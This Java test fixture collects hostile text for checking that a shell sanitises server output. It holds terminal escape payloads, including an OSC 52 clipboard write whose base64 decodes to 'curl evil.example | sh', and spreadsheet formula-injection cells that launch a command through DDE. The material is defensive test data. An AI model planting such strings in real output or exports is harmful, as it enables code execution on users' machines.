package io.s4e.shell.reliability;

import java.util.List;
import java.util.regex.Pattern;

/** Text a hostile or broken server may send, and checks for what may reach a terminal or a spreadsheet. */
final class HostileText {

	static final String ESC = "\u001b";

	/** SGR colour sequences, the only escapes the shell itself writes into tables. */
	private static final Pattern SGR = Pattern.compile("\u001b\\[[0-9;]*m");

	/** Any escape or C0/C1 control except line feed, once the shell's own colours are removed. */
	static final Pattern TERMINAL_CONTROL = Pattern.compile("[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f]");

	/** Titles that try to act on the terminal, each with a word that must survive as text. */
	static final List<String> TITLES = List.of(
			ESC + "[31mRED" + ESC + "[0m title",
			ESC + "]8;;https://evil.example/" + ESC + "\\LINK" + ESC + "]8;;" + ESC + "\\ hyperlink",
			ESC + "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007CLIPBOARD osc52",
			"SAFE title\rOVERWRITE",
			ESC + "[2J" + ESC + "[HCLEAR screen",
			ESC + "]0;window-title\u0007TITLE set",
			"\u009b31mC1 csi",
			"BIDI \u202eevil\u202c text");

	/** Cells a spreadsheet would run as formulas. */
	static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
			"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil\")");

	private HostileText() {
	}

	static String withoutSgr(String text) {
		return SGR.matcher(text).replaceAll("");
	}

}
